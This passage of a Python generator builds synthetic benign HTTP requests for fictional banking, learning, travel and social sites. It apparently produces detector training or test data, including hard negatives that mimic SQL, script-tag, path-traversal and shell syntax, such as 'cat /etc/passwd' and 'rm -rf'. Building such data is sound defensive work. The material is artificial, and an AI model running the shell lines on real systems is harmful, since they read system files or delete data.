            "Streaming",
            "Pet care",
            "Gym",
            "Coffee",
        ]
    )
    return B(
        "json_key",
        k,
        "app.ledgerline.io",
        "/api/v1/budgets/%s" % rdate()[:7],
        method="PUT",
        json={"currency": "EUR", "limits": {MARK: float(R.randint(20, 600)), "Other": 100.0}},
    )


def fin_pdf_path():
    inv = "INV-2024-%04d" % R.randint(1, 9999)
    return B("path", inv, "app.ledgerline.io", "/api/v1/invoices/" + MARK + "/pdf", client="browser")


def fin_idem():
    return B(
        "header",
        ruuid(),
        "api.meridianpay.io",
        "/v1/payouts",
        method="POST",
        client="api",
        hname="Idempotency-Key",
        json={"amount": int(R.randint(100, 900000)), "currency": "eur", "destination": "ba_" + ralnum(20)},
    )


def fin_cookie():
    v = (
        R.choice(["EUR", "USD", "GBP"])
        + "|"
        + R.choice(["de-DE", "en-GB", "fr-FR"])
        + "|"
        + R.choice(["compact", "detailed"])
    )
    return B(
        "cookie",
        v,
        "online.harborfirst-bank.com",
        "/accounts/overview",
        client="browser",
        cookies=[("hf_session", ralnum(40)), ("display_prefs", MARK)],
    )


FIN_HARD_NOTES = [
    "Reconciled vs GL: entries where amount = 0 OR status = 'void' were excluded -- per auditor's request",
    "Approval rule: if amount > 10,000 AND < 50,000 then 2 approvers; else 1",
    "Payee: O'Reilly Auto Parts; memo: 'brake pads' & 'labour'",
    "Split 50/50 -> 'Marketing' & 'R&D' (see ../Q3/adjustments.xlsx)",
    "FX diff = (1.0842 - 1.0791) * 25,000 = 127.50 EUR",
    "Column F showed #DIV/0!; wrapped it with IFERROR(...) and the totals now tie out",
    "Select the 'Union Bank' account for this vendor, NOT 'Union Trust' (closed in 2023)",
    'Drop in revenue vs. forecast is FX-driven; see sheet "Q2 bridge" tab 3',
    "Exec summary: net margin 12.4% (vs 11.9%); /* draft */ numbers subject to audit",
    "Paid twice?? #4471 & #4472 -- same amount, same day; please confirm <before> Friday",
]


def finh_note():
    return B(
        "json",
        R.choice(FIN_HARD_NOTES) + R.choice(["", " (JB)", " — ok'd by CFO"]),
        "app.ledgerline.io",
        "/api/v1/journal-entries/%s/notes" % rdigits(6),
        json={"author": email_for(R.choice(NAMES), "ledgerline.io"), "visibility": "team", "text": MARK},
    )


def finh_reference():
    ref = R.choice(
        [
            "Inv. #2024-118; #2024-119 'final'",
            "Rent -- Flat 3/12 O'Connell St",
            "Refund <order %s> & shipping" % rdigits(5),
            "Invoice 44 + 45 (=1,280.00)",
            "Deposit 'Villa Sol' 50%",
            "School trip; 2x kids @ 35.00",
        ]
    )
    return B(
        "form",
        ref,
        "online.harborfirst-bank.com",
        "/payments/transfer/new",
        client="browser",
        form=[
            ("beneficiary_name", R.choice(NAMES)),
            ("iban", rand_iban()),
            ("amount", money(10, 3000)),
            ("reference", MARK),
        ],
    )


def finh_payee():
    p = R.choice(
        [
            "D'Arcy & Sons Ltd.",
            "O'Brien's Pub (Dún Laoghaire)",
            "Smith & Wesson-Jones; Attn: A/P",
            '"Best Buy" #1142',
            "AT&T Mobility",
            "Marks & Spencer plc",
            "Ben & Jerry's <Franchise 12>",
        ]
    )
    return B(
        "json", p, "app.ledgerline.io", "/api/v1/vendors", json={"name": MARK, "iban": rand_iban(), "terms": "NET30"}
    )


def finh_journal():
    t = R.choice(
        [
            "Sold 1/2 position @ 189.40 || trailing stop 5%",
            "Target: ${NVDA} > 900 by Q3?",
            "select entries: AAPL, MSFT; exec at open",
            "Hedge = -0.5 * delta; if IV > 40 then roll",
            "Stop-loss <= 3% -- rule #1 (never break it)",
        ]
    )
    return B(
        "json",
        t,
        "trade.quantbridge.io",
        "/api/v2/journal",
        client="api",
        json={"date": rdate(), "entry": MARK, "tags": ["swing"]},
    )


def finh_search():
    q = R.choice(
        [
            '"amazon" OR "amzn"',
            "rent -deposit",
            "amount:>500 category:travel",
            "paypal *steam",
            "ref:'INV-2024*'",
            "tesco | sainsbury's",
        ]
    )
    return B("query", q, "online.harborfirst-bank.com", "/api/v1/transactions/search", q=[("q", MARK), ("limit", "50")])


def finh_odata():
    f = R.choice(
        [
            "amount ge 100 and amount le 500 and status eq 'posted'",
            "startswith(payee,'O''Brien') and year(date) eq 2024",
            "category eq 'Travel' or category eq 'Meals'",
            "not (status eq 'void') and currency eq 'EUR'",
        ]
    )
    return B(
        "query",
        f,
        "api.meridianpay.io",
        "/odata/v4/Payments",
        client="api",
        q=[("$filter", MARK), ("$top", "25"), ("$orderby", "date desc")],
    )


def finh_pain():
    doc = pain001(
        R.choice(["Invoice 44 & 45 < 30 days", 'Ref: "Q2/2024" -- thanks!', "Kd-Nr. 4471; Rg. 2024/118 & 119"])
    )
    return B("xml", doc, "api.meridianpay.io", "/v1/payments/batch", client="api", xml=None)


def finh_csv():
    rows = [
        "Date;Payee;Memo;Amount",
        '%s;"O\'Neill, Pat";"Dinner; split 3 ways";-84,20' % rdate(),
        '%s;"PAYPAL *STEAM GAMES";"REF \'X7\' -- refund?";-19,99' % rdate(),
        '%s;"Select Comfort Corp";"mattress <delivery>";-1.299,00' % rdate(),
    ]
    return B(
        "multipart",
        "\r\n".join(rows) + "\r\n",
        "app.ledgerline.io",
        "/api/v1/bank-statements/import",
        client="browser",
        mp=[("account", None, None, "Joint"), ("file", "export_%s.csv" % rdigits(6), "text/csv", MARK)],
    )


FIN_N = [
    fin_invoice,
    fin_transfer,
    fin_trade,
    fin_txn_query,
    fin_fx,
    fin_statement,
    fin_pain,
    fin_budget,
    fin_pdf_path,
    fin_idem,
    fin_cookie,
]
FIN_H = [finh_note, finh_reference, finh_payee, finh_journal, finh_search, finh_odata, finh_pain, finh_csv]

# ------------------------------------------------------------------- benign_education
EDU = "learn.quadrant-academy.edu"
EDU_ANS = [
    "The mitochondria is the powerhouse of the cell.",
    "x = 4",
    "Photosynthesis converts light energy into chemical energy stored in glucose.",
    "1789",
    "Paris",
    "B",
    "Because the demand curve shifted to the right, the equilibrium price rose.",
    "Newton's third law: every action has an equal and opposite reaction.",
    "H2O",
    "The Treaty of Versailles (1919)",
    "Mitosis produces two identical daughter cells.",
    "It's an example of alliteration.",
    "Approximately 9.81 m/s²",
]


def edu_quiz():
    return B(
        "json",
        R.choice(EDU_ANS),
        EDU,
        "/api/quizzes/%d/attempts/%d/answers" % (R.randint(100, 999), R.randint(1000, 9999)),
        json={"questionId": "q_%s" % rhex(8), "answer": MARK, "timeSpentSec": R.randint(5, 300)},
    )


ESSAY_BITS = [
    "In this essay I will argue that urban green spaces improve mental health.",
    "Renewable energy adoption depends as much on policy as on technology.",
    "The novel's narrator is unreliable, which forces the reader to question every scene.",
    "My grandmother's recipes taught me more about chemistry than any textbook.",
    "Social media has changed how teenagers form friendships, for better and for worse.",
    "The Industrial Revolution reshaped family life in ways we still feel today.",
]


def edu_essay():
    t = R.choice(ESSAY_BITS) + " " + R.choice(ESSAY_BITS) + "\r\n\r\n" + R.choice(ESSAY_BITS)
    return B(
        "form",
        t,
        EDU,
        "/mod/assign/submit.php",
        client="browser",
        form=[
            ("id", str(R.randint(100, 999))),
            ("sesskey", ralnum(10)),
            ("onlinetext", MARK),
            ("submitbutton", "Save changes"),
        ],
    )


def edu_search():
    q = R.choice(
        [
            "intro to statistics",
            "organic chemistry II",
            "python for beginners",
            "art history renaissance",
            "calculus",
            "spanish a2",
            "machine learning",
            "world war 1 primary sources",
        ]
    )
    return B("query", q, EDU, "/course/search.php", q=[("search", MARK), ("areaids", "core_course-course")], plus=True)


def edu_forum():
    t = R.choice(
        [
            "Does anyone have notes from Tuesday's lecture? I missed the part about **eigenvalues**.",
            "Study group this Thursday at 6pm in the library (room 2.14) — all welcome!",
            "Reminder: the lab report is due *Friday* at noon, not midnight.",
            "Thanks @prof_lee for the extra office hours 🙏",
            "Is chapter 7 included in the midterm or only 1–6?",
        ]
    )
    return B(
        "json",
        t,
        "forum.quadrant-academy.edu",
        "/api/discussions/%d/posts" % R.randint(100, 999),
        json={"format": "markdown", "message": MARK, "subscribe": True},
    )


def edu_upload():
    fn = R.choice(["homework3.pdf", "lab_report_v2.docx", "essay-final.pdf", "problem_set_4.pdf", "presentation.pptx"])
    return B(
        "multipart",
        fn,
        EDU,
        "/mod/assign/upload.php",
        client="browser",
        mp=[
            ("itemid", None, None, rdigits(9)),
            ("repo_upload_file", MARK, "application/pdf", "%PDF-1.7\n%âãÏÓ\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"),
        ],
    )


def edu_lti():
    name = R.choice(NAMES)
    return B(
        "form",
        name,
        "tools.tutorloop.com",
        "/lti/launch",
        client="browser",
        form=[
            ("lti_message_type", "basic-lti-launch-request"),
            ("lti_version", "LTI-1p0"),
            ("resource_link_id", rhex(16)),
            ("user_id", rdigits(6)),
            ("roles", "Learner"),
            ("lis_person_name_full", MARK),
            ("context_title", "BIO-110 Intro Biology"),
            ("oauth_consumer_key", "quadrant"),
            ("oauth_signature_method", "HMAC-SHA1"),
            ("oauth_timestamp", str(1714600000 + R.randint(0, 99999))),
            ("oauth_nonce", ralnum(32)),
            ("oauth_version", "1.0"),
            ("oauth_signature", b64(bytes(R.randrange(256) for _ in range(20)))),
        ],
    )


def qti(prompt):
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n<assessmentItem xmlns="http://www.imsglobal.org/xsd/imsqti_v2p1" '
        'identifier="item%s" title="Quiz item" adaptive="false" timeDependent="false">'
        '<responseDeclaration identifier="RESPONSE" cardinality="single" baseType="identifier"><correctResponse>'
        "<value>ChoiceA</value></correctResponse></responseDeclaration><itemBody><choiceInteraction "
        'responseIdentifier="RESPONSE" shuffle="true" maxChoices="1"><prompt>%s</prompt>'
        '<simpleChoice identifier="ChoiceA">%s</simpleChoice><simpleChoice identifier="ChoiceB">%s</simpleChoice>'
        "</choiceInteraction></itemBody></assessmentItem>"
    ) % (rdigits(4), xesc(prompt), xesc(R.choice(EDU_ANS)), xesc(R.choice(EDU_ANS)))


def edu_qti():
    doc = qti(
        R.choice(
            [
                "Which organelle produces ATP?",
                "What is the capital of France?",
                "Solve 2x + 3 = 11.",
                "Who wrote 'Pride and Prejudice'?",
                "What is the chemical formula of water?",
            ]
        )
    )
    return B("xml", doc, EDU, "/api/question-bank/import", client="api", xml=None)


def edu_rubric():
    k = R.choice(
        ["Thesis & argument", "Use of evidence", "Structure / flow", "Grammar and style", "Citations (APA 7th)"]
    )
    return B(
        "json_key",
        k,
        EDU,
        "/api/assignments/%d/rubric" % R.randint(100, 999),
        method="PUT",
        json={"scale": "0-5", "criteria": {MARK: R.randint(1, 5), "Overall": R.randint(1, 5)}},
    )


def edu_path():
    c = R.choice(["MATH-201", "BIO-110", "HIST-230", "CS-101", "CHEM-305", "ECON-120"])
    return B("path", c, EDU, "/courses/" + MARK + "/modules/%d" % R.randint(1, 12), client="browser")


def edu_cookie():
    return B(
        "cookie",
        R.choice(["BIO-110", "CS-101", "MATH-201"]) + ":" + str(R.randint(1, 12)),
        EDU,
        "/my/",
        client="browser",
        cookies=[("MoodleSession", ralnum(26)), ("last_course", MARK)],
    )


EDU_MATH = [
    "x^2 + 2x + 1 = (x+1)^2",
    "if a = 1 and b = 1 then a = b, so 1=1 holds trivially",
    "\\int_0^1 x^2 \\, dx = 1/3",
    "\\frac{a}{b} + \\frac{c}{d} = \\frac{ad + bc}{bd}",
    "P(A|B) = P(B|A) * P(A) / P(B)",
    "2 > 1 && 3 > 2 evaluates to true",
    "f(x) = |x| is not differentiable at x = 0",
    "sum = n*(n+1)/2; for n=100 -> 5050",
    "0.1 + 0.2 != 0.3 in floating point (it's 0.30000000000000004)",
    "a || b is false only when both are false",
]
EDU_SQL = [
    "SELECT name, grade FROM students WHERE grade > 90 ORDER BY grade DESC;",
    "SELECT c.title, COUNT(*) AS n FROM enrollments e JOIN courses c ON c.id = e.course_id GROUP BY c.title HAVING COUNT(*) > 30;",
    "UPDATE accounts SET balance = balance - 100 WHERE id = 7; -- then commit the transaction",
    "SELECT * FROM orders o LEFT JOIN customers c ON o.customer_id = c.id WHERE c.id IS NULL;",
    "DELETE FROM cart_items WHERE added_at < NOW() - INTERVAL '30 days';",
    "CREATE TABLE students (id SERIAL PRIMARY KEY, name TEXT NOT NULL, email TEXT UNIQUE);",
]
EDU_WEB = [
    '<!DOCTYPE html>\n<html>\n<head><title>My Page</title></head>\n<body>\n<p id="demo"></p>\n'
    "<script>document.getElementById('demo').innerHTML = 'Hello, world!';</script>\n</body>\n</html>",
    "<button onclick=\"toggle()\">Show</button>\n<script>\nfunction toggle() { document.body.classList.toggle('dark'); }\n</script>",
    '<form action="/signup" method="post">\n  <input type="email" name="email" required>\n  <button>Join</button>\n</form>',
    '<img src="cat.jpg" alt="A cat" onerror="this.style.display=\'none\'">  <!-- hides broken images -->',
]
EDU_LINUX = [
    "cat /etc/passwd lists the user accounts; the hashes live in /etc/shadow, which only root can read.",
    "chmod 755 deploy.sh && ./deploy.sh",
    "ls -la ../ shows the parent directory including hidden files",
    "rm -rf build/ removes the build folder recursively -- be careful with the path!",
    "ps aux | grep nginx | awk '{print $2}'",
    "find . -name '*.log' -mtime +7 -delete",
    "echo $PATH; which python3; python3 --version",
]
EDU_SEC = [
    "Parameterized queries prevent SQL injection because user input such as a surname like O'Brien is sent separately from the query text.",
    "Cross-site scripting happens when an app echoes <script> tags back without escaping; output encoding is the fix.",
    "Path traversal uses sequences like ../ to escape the intended directory, so servers should canonicalise paths first.",
    "The OWASP Top 10 lists injection, broken access control and security misconfiguration among the most common risks.",
]
EDU_CODE = [
    "def fib(n):\n    return n if n < 2 else fib(n-1) + fib(n-2)\n\nprint([fib(i) for i in range(10)])",
    "import os\nprint(os.getcwd())\nprint(os.listdir('.'))",
    '#include <stdio.h>\nint main(void) { printf("%d\\n", 1 << 3); return 0; }',
    'public static void main(String[] args) {\n    System.out.println(String.join(",", args));\n}',
    "const total = items.reduce((acc, x) => acc + x.price * x.qty, 0);",
    "^[A-Za-z0-9._%+-]+@[A-Za-z0-9.-]+\\.[A-Za-z]{2,}$",
]


def eduh_math():
    return B(
        "json",
        R.choice(EDU_MATH),
        EDU,
        "/api/quizzes/%d/attempts/%d/answers" % (R.randint(100, 999), R.randint(1000, 9999)),
        json={"questionId": "q_%s" % rhex(8), "answer": MARK, "format": "latex"},
    )


def eduh_sql():
    return B(
        "json",
        R.choice(EDU_SQL),
        "lab.quadrant-academy.edu",
        "/api/exercises/sql-%d/submit" % R.randint(1, 40),
        json={"language": "postgresql", "solution": MARK, "attempt": R.randint(1, 5)},
    )


def eduh_web():
    return B(
        "multipart",
        R.choice(EDU_WEB),
        EDU,
        "/mod/assign/upload.php",
        client="browser",
        mp=[("itemid", None, None, rdigits(9)), ("repo_upload_file", "index.html", "text/html", MARK)],
    )


def eduh_linux():
    return B(
        "form",
        R.choice(EDU_LINUX),
        EDU,
        "/mod/quiz/processattempt.php",
        client="browser",
        form=[
            ("attempt", rdigits(5)),
            ("q%s:1_answer" % rdigits(4), MARK),
            ("sesskey", ralnum(10)),
            ("next", "Next page"),
        ],
    )


def eduh_sec():
    return B(
        "form",
        R.choice(EDU_SEC),
        EDU,
        "/mod/assign/submit.php",
        client="browser",
        form=[("id", str(R.randint(100, 999))), ("onlinetext", MARK), ("submitbutton", "Save changes")],
    )


def eduh_code():
    return B(
        "json",
        R.choice(EDU_CODE),
        "lab.quadrant-academy.edu",
        "/grader/submissions",
        json={
            "exercise": "ex-%d" % R.randint(1, 60),
            "language": R.choice(["python", "c", "java", "javascript"]),
            "source": MARK,
        },
    )


def eduh_jinja():
    q = R.choice(
        [
            "Why does {{ user.name }} render empty in my Flask template but {{ user['name'] }} works?",
            "In Django, is {% csrf_token %} needed inside every <form> tag?",
            "Handlebars question: how do I loop with {{#each items}} and get the index?",
            "ERB: what's the difference between <%= %> and <% %>?",
        ]
    )
    return B(
        "json",
        q,
        "forum.quadrant-academy.edu",
        "/api/discussions/%d/posts" % R.randint(100, 999),
        json={"format": "markdown", "message": MARK},
    )


def eduh_quote():
    t = R.choice(
        [
            "As Hamlet says, 'to be, or not to be' -- that is the question; Shakespeare's soliloquy",
            'Orwell\'s line "War is peace" works because the contradiction is the point.',
            "The author's use of 'select' vs 'choose' in chapter 3 signals the shift in tone.",
            "She wrote: <i>the end</i> -- but was it?",
        ]
    )
    return B("query", t, "library.quadrant-academy.edu", "/search", q=[("q", MARK), ("type", "quote")], plus=True)


EDU_N = [edu_quiz, edu_essay, edu_search, edu_forum, edu_upload, edu_lti, edu_qti, edu_rubric, edu_path, edu_cookie]
EDU_H = [eduh_math, eduh_sql, eduh_web, eduh_linux, eduh_sec, eduh_code, eduh_jinja, eduh_quote]

# ------------------------------------------------------------------- benign_travel
TRV = "booking.skyroute-travel.com"
AIRPORTS = [
    ("ZRH", "Zürich"),
    ("JFK", "New York"),
    ("LIS", "Lisboa"),
    ("OPO", "Porto"),
    ("HND", "東京 (Haneda)"),
    ("SVO", "Москва"),
    ("KRK", "Kraków"),
    ("KEF", "Reykjavík"),
    ("DUB", "Dublin"),
    ("MAD", "Madrid"),
    ("IST", "İstanbul"),
    ("CDG", "Paris"),
    ("SIN", "Singapore"),
    ("GRU", "São Paulo"),
]
ADDRESSES = [
    "東京都渋谷区神南1-2-3",
    "ул. Тверская, 1, Москва",
    "ul. Floriańska 15, 31-019 Kraków",
    "Laugavegur 28, 101 Reykjavík",
    "Bahnhofstrasse 21, 8001 Zürich",
    "Rua Augusta 274, 1100-053 Lisboa",
    "Calle de Alcalá 42, 28014 Madrid",
    "221B Baker Street, London NW1 6XE",
    "Königsallee 60, 40212 Düsseldorf",
    "İstiklal Cd. No:10, Beyoğlu",
]


def trv_search():
    a, b = R.sample(AIRPORTS, 2)
    dest = "%s (%s)" % (b[1], b[0])
    m, d = R.randint(1, 12), R.randint(1, 20)
    return B(
        "query",
        dest,
        TRV,
        "/flights/search",
        client="browser",
        q=[
            ("from", a[0]),
            ("to", MARK),
            ("depart", "2024-%02d-%02d" % (m, d)),
            ("return", "2024-%02d-%02d" % (m, min(28, d + R.randint(2, 14)))),
            ("adults", str(R.randint(1, 4))),
            ("cabin", "economy"),
        ],
    )


def trv_hotel():
    req = R.choice(
        [
            "Quiet room on a high floor please.",
            "We arrive around 22:00.",
            "Twin beds if possible.",
            "Celebrating our anniversary!",
            "Need parking for one car.",
            "Vegetarian breakfast please.",
        ]
    )
    name = R.choice(NAMES)
    return B(
        "json",
        req,
        "api.staywell-hotels.com",
        "/v2/reservations",
        client="api",
        json={
            "hotelId": "SW-%s" % rdigits(5),
            "checkIn": rdate(),
            "checkOut": rdate(),
            "guests": [{"firstName": name.split(" ")[0], "lastName": name.split(" ", 1)[1], "email": email_for(name)}],
            "rooms": 1,
            "specialRequests": MARK,
        },
    )


def trv_itin():
    legs = R.sample(AIRPORTS, 3)
    city = legs[1][1]
    return B(
        "json",
        city,
        TRV,
        "/api/itineraries",
        client="api",
        json={
            "title": "Summer trip",
            "legs": [{"from": legs[0][0], "to": legs[1][0], "cityName": MARK}, {"from": legs[1][0], "to": legs[2][0]}],
            "travellers": R.randint(1, 5),
        },
    )


def trv_address():
    a = R.choice(ADDRESSES)
    return B(
        "form",
        a,
        TRV,
        "/checkout/billing",
        client="browser",
        form=[
            ("full_name", R.choice(NAMES)),
            ("address_line1", MARK),
            ("country", R.choice(["JP", "RU", "PL", "IS", "CH", "PT", "ES", "GB"])),
            ("postcode", rdigits(5)),
            ("save", "1"),
        ],
    )


def trv_review():
    t = R.choice(
        [
            "Great location, friendly staff, tiny bathroom.",
            "Breakfast buffet was excellent — try the pastéis de nata!",
            "Room was clean but the Wi-Fi kept dropping.",
            "Perfect for a weekend city break.",
            "Check-in was quick and the view over the harbour was stunning.",
            "Would stay again; a bit noisy at night.",
        ]
    )
    return B(
        "form",
        t,
        "api.staywell-hotels.com",
        "/reviews/new",
        client="browser",
        form=[
            ("hotel", "SW-%s" % rdigits(5)),
            ("rating", str(R.randint(3, 5))),
            ("title", "Nice stay"),
            ("body", MARK),
        ],
    )


def trv_ota():
    a, b = R.sample(AIRPORTS, 2)
    doc = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<OTA_AirAvailRQ xmlns="http://www.opentravel.org/OTA/2003/05" '
        'EchoToken="%s" TimeStamp="%s" Version="2.001"><POS><Source PseudoCityCode="%s"/></POS>'
        "<OriginDestinationInformation><DepartureDateTime>%sT00:00:00</DepartureDateTime>"
        '<OriginLocation LocationCode="%s"/><DestinationLocation LocationCode="%s"/></OriginDestinationInformation>'
        '<TravelPreferences><CabinPref Cabin="Economy"/></TravelPreferences></OTA_AirAvailRQ>'
    ) % (rhex(12), rtime_iso(), ralnum(4).upper(), rdate(), a[0], b[0])
    return B(
        "xml", doc, "gds.skyroute-travel.com", "/ota/AirAvail", client="api", xml=None, ctype="text/xml; charset=utf-8"
    )


def trv_passport():
    fn = R.choice(
        ["passport_scan.jpg", "visa-approval.pdf", "ESTA confirmation.pdf", "boarding-pass.png", "vaccination_cert.pdf"]
    )
    return B(
        "multipart",
        fn,
        TRV,
        "/api/documents",
        client="browser",
        mp=[("booking_ref", None, None, ralnum(6).upper()), ("document", MARK, "application/pdf", "%PDF-1.4\n")],
    )


def trv_cookie():
    v = "|".join("%s-%s" % (a[0], b[0]) for a, b in [R.sample(AIRPORTS, 2) for _ in range(R.randint(1, 3))])
    return B(
        "cookie",
        v,
        TRV,
        "/",
        client="browser",
        cookies=[("currency", R.choice(["CHF", "EUR", "USD"])), ("recent_searches", MARK)],
    )


def trv_rail():
    st = R.choice(
        [
            "München Hbf",
            "Zürich HB",
            "Bruxelles-Midi / Brussel-Zuid",
            "Paris Gare de Lyon",
            "Wien Hbf",
            "Praha hl.n.",
            "København H",
            "Milano Centrale",
        ]
    )
    return B(
        "json",
        st,
        "m.railconnect.eu",
        "/api/journeys/search",
        client="api",
        json={
            "origin": MARK,
            "destination": R.choice(["Basel SBB", "Köln Hbf", "Amsterdam Centraal"]),
            "date": rdate(),
            "passengers": [{"type": "adult", "railcard": None}],
        },
    )


def trv_lang():
    return B("header", R.choice(LANGS), TRV, "/deals", client="browser", hname="Accept-Language", noextra=True)


TRV_N = [
    trv_search,
    trv_hotel,
    trv_itin,
    trv_address,
    trv_review,
    trv_ota,
    trv_passport,
    trv_cookie,
    trv_rail,
    trv_lang,
]


def trvh_address():
    a = R.choice(
        [
            "Flat 3/12, 1 O'Connell St., Dublin 1",
            "Rue de l'Église 4 -- 2e étage",
            "c/o Hotel 'Zur Post', Hauptstr. 12 & 14",
            "Apt #5B; 350 W. 42nd St",
            "Unit 7/23 Smith St, Fitzroy VIC 3065",
            "Via dell'Orso 8 (int. 3)",
        ]
    )
    return B(
        "form",
        a,
        TRV,
        "/checkout/billing",
        client="browser",
        form=[("full_name", R.choice(NAMES)), ("address_line1", MARK), ("postcode", rdigits(4)), ("save", "1")],
    )


def trvh_place():
    p = R.choice(
        [
            "'s-Hertogenbosch",
            "Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch",
            "L'Aquila",
            "Hagåtña",
            "Washington, D.C.",
            "Saint-Jean-de-Luz",
            "Bad Tölz-Wolfratshausen",
            "Ta' Xbiex",
            "Ho Chi Minh City (Sài Gòn)",
        ]
    )
    return B(
        "query",
        p,
        TRV,
        "/hotels/search",
        q=[("destination", MARK), ("nights", str(R.randint(1, 7)))],
        plus=R.random() < 0.5,
    )


def trvh_requests():
    r = R.choice(
        [
            "Late check-in ~23:30; room away from lift; need cot <2 yrs",
            "Allergies: nuts & shellfish -- please inform kitchen!!!",
            "Select seat 12A OR 12C (not 12B)",
            "Wheelchair assistance @ gate; 1x folding chair <20kg",
            "Early check-in?? Flight lands 06:10 :)",
            "Pick-up from Terminal 2/Gate B -> hotel",
        ]
    )
    return B(
        "json",
        r,
        "api.staywell-hotels.com",
        "/v2/reservations/%s/requests" % ralnum(8),
        client="api",
        json={"type": "special_request", "text": MARK},
    )


def trvh_query():
    q = R.choice(
        [
            'hotels near "Times Square" -hostel',
            "beach AND (villa OR apartment)",
            "pet-friendly & 'free parking'",
            "rome OR florence -tour",
            "ski chalet <1000 EUR",
        ]
    )
    return B("query", q, TRV, "/search", q=[("q", MARK), ("sort", "price_asc")], plus=True)


def trvh_itin():
    n = R.choice(
        [
            "ZRH → LIS → OPO; bus #2 < 30 min",
            "Day 3: Sintra -- Pena Palace (book 10:00 slot) & Quinta da Regaleira",
            "Train 9:04 -> 11:37; change @ Olten (2 min!)",
            "Budget: 80/day * 6 days = 480 EUR",
        ]
    )
    return B(
        "json", n, TRV, "/api/itineraries/%s/notes" % ralnum(8), client="api", json={"note": MARK, "pinned": False}
    )


def trvh_path():
    slug = R.choice(
        ["hôtel-de-l'europe", "pensão-são-joão", "gasthof-zur-post", "b&b-la-terrazza", "the-o'connell-arms"]
    )
    return B("path", slug, "api.staywell-hotels.com", "/hotels/" + MARK, client="browser")


def trvh_pnr():
    n = R.choice(["O'NEIL-SMITH/MARY MRS", "D'SOUZA/RAJ MR", "VAN DER BERG/ANNA MS", "MCALLISTER/CONNOR MR"])
    return B(
        "json",
        n,
        "gds.skyroute-travel.com",
        "/api/pnr/%s/passengers" % ralnum(6).upper(),
        client="api",
        json={"gdsName": MARK, "ptc": "ADT", "ffp": None},
    )


TRV_H = [trvh_address, trvh_place, trvh_requests, trvh_query, trvh_itin, trvh_path, trvh_pnr]

# ------------------------------------------------------------------- benign_social
SOC = "api.chirpnest.social"
POSTS = [
    "Sunset at the pier tonight 🌅 #nofilter #summer",
    "Just finished my first half marathon!! 21.1 km in 1:58 🏃‍♀️",
    "Anyone know a good ramen place near Shoreditch? 🍜",
    "New blog post: how I organise my week with paper planners ✍️",
    "Happy birthday @maya_g 🎂🎉",
    "Coffee first. Then the world. ☕",
    "Our team shipped the redesign today 🚀 #buildinpublic",
    "Rainy Sunday = baking day. Banana bread incoming 🍌",
    "Big thanks to everyone who came to the meetup last night!",
    "Reading list for June: 3 novels, 1 biography, 0 self-help 📚",
    "Who's watching the final tonight? ⚽",
]


def soc_post():
    return B(
        "json",
        R.choice(POSTS) + R.choice(["", " ❤️", " 😊", "!"]),
        SOC,
        "/v2/posts",
        client="api",
        json={"text": MARK, "visibility": R.choice(["public", "followers"]), "media_ids": []},
    )


def soc_comment():
    t = R.choice(
        [
            "Love this!",
            "Congrats!! 🎉",
            "Where was this taken?",
            "Same here haha",
            "Saving this for later 🔖",
            "This made my day 😂",
            "@%s you need to see this" % R.choice(["ana.p", "tom_r", "lee-k"]),
        ]
    )
    return B("json", t, SOC, "/v2/posts/%s/comments" % rdigits(12), client="api", json={"body": MARK, "reply_to": None})


def soc_timeline():
    tag = R.choice(["photography", "running", "bookclub", "vegan", "indiedev", "catsoftwitter", "london"])
    return B(
        "query",
        tag,
        SOC,
        "/v2/timeline/hashtag",
        q=[("tag", MARK), ("since_id", rdigits(18)), ("count", "40")],
        client="api",
    )


def soc_bio():
    b = R.choice(
        [
            "Designer. Dog person. Coffee snob ☕",
            "PhD student @ UCL | climate + cities",
            "she/her · Lisbon 🇵🇹 · runs on tea",
            "Dad of 2, amateur baker, terrible golfer",
            "Building things on the internet since 2009",
        ]
    )
    return B(
        "form",
        b,
        "m.chirpnest.social",
        "/settings/profile",
        client="browser",
        form=[
            ("display_name", R.choice(NAMES)),
            ("bio", MARK),
            ("website", "https://example.com"),
            ("authenticity_token", b64(rhex(32))),
        ],
    )


def soc_photo():
    cap = R.choice(
        ["Golden hour in Porto 🌇", "My sourdough finally worked!", "Weekend hike ⛰️", "Look who visited the garden 🦔"]
    )
    return B(
        "multipart",
        cap,
        SOC,
        "/v2/media/upload",
        client="api",
        mp=[("caption", None, None, MARK), ("media", "IMG_%s.jpg" % rdigits(4), "image/jpeg", "\xff\xd8\xff\xe0JFIF")],
    )


def soc_poll():
    opt = R.choice(["Pineapple on pizza: yes", "Tabs", "Cats 🐈", "Morning workouts", "Tea"])
    return B(
        "json",
        opt,
        SOC,
        "/v2/polls",
        client="api",
        json={"question": "Settle this once and for all", "options": [MARK, "No way"], "duration_hours": 24},
    )


def soc_react():
    e = R.choice(["👍", "❤️", "😂", "🎉", "😮", "🙏"])
    return B(
        "json_key",
        e,
        SOC,
        "/v2/posts/%s/reactions" % rdigits(12),
        client="api",
        method="PUT",
        json={"counts": {MARK: 1}},
    )


def soc_dm():
    t = R.choice(
        [
            "Hey! Are we still on for Saturday?",
            "Can you send me the link again? 🙏",
            "Thanks for the recommendation!",
            "Running 10 min late, sorry!!",
            "Did you see the photos from the wedding?",
        ]
    )
    return B("json", t, SOC, "/v2/dm/conversations/%s/messages" % ralnum(10), client="api", json={"text": MARK})


def soc_mention_path():
    u = R.choice(["maya_g", "tom.r", "lee-k", "ana_p_photo", "dev_jonas"])
    return B("path", u, "m.chirpnest.social", "/@" + MARK, client="browser")


SOC_N = [soc_post, soc_comment, soc_timeline, soc_bio, soc_photo, soc_poll, soc_react, soc_dm, soc_mention_path]
SOC_HARD_TEXT = [
    "<3 <3 <3 love you guys",
    "rm -rf node_modules && npm i fixed it 🙏 #devlife",
    "SELECT * FROM friends WHERE cool = true; -- me irl 😎",
    "Oh great... ANOTHER update that 'fixes' everything ;) /s",
    "1=1 is the only truth I know at this point",
    "<script> tags in my bio got stripped lol, guess that's good",
    "What's the ${deal} with airline food?",
    "me: 'I'll sleep early' // also me at 3am: 👀",
    "if (coffee == null) { return; } // Monday mood",
    "my cat walked on the keyboard: ;;;'''\"\"\"<<<>>>",
    "../../ is how I feel about Mondays",
    "#javascript tip: use === not == !! #100DaysOfCode",
    "@alice_dev && @bob-ops: PR #4412 merged 🎉",
    "cat /dev/urandom > feelings.txt",
    "'or' you could just ask nicely?",
    "drop everything and watch this 🔥",
    "union rep meeting @ 6 -- be there!",
    "sleep(8) hours?? in this economy?",
